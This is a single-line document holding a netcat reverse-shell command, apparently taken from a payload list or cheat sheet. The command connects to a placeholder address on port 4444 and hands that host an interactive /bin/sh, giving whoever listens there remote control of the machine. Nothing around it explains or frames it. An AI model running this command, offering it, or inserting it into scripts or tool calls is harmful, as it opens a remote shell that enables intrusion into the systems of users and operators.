nc 192.0.2.1 4444 -e /bin/sh
